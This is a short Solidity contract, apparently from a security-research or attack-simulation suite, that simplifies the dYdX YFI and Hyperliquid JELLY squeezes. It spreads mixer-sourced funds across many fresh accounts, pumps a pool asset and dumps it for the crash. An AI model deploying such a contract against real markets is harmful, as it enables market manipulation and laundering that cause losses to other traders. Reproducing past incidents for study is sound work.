// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {AttackBase, IPoolLike} from "./AttackBase.sol";

/// @notice dYdX YFI / Hyperliquid JELLY, simplified: fans the mixer money out to many fresh accounts
/// (ether for gas, collateral for margin) and holds the pumped asset for the crash.
contract SqueezeDisperser is AttackBase {
    IPoolLike public immutable pool;
    IERC20 public immutable asset;

    constructor(IERC20 usd_, IPoolLike pool_, IERC20 asset_) AttackBase(usd_) {
        pool = pool_;
        asset = asset_;
        _approve(address(pool_));
        asset_.approve(address(pool_), type(uint256).max);
    }

    function disperse(address[] calldata to, uint256 usdEach, uint256 ethEach) external payable onlyOwner {
        for (uint256 i = 0; i < to.length; i++) {
            usd.transfer(to[i], usdEach);
            payable(to[i]).transfer(ethEach);
        }
    }

    function buy(uint256 usdAmount) external onlyOwner {
        pool.swap(true, usdAmount, 0, address(this));
    }

    function dump() external onlyOwner {
        pool.swap(false, asset.balanceOf(address(this)), 0, address(this));
    }

    receive() external payable {}
}
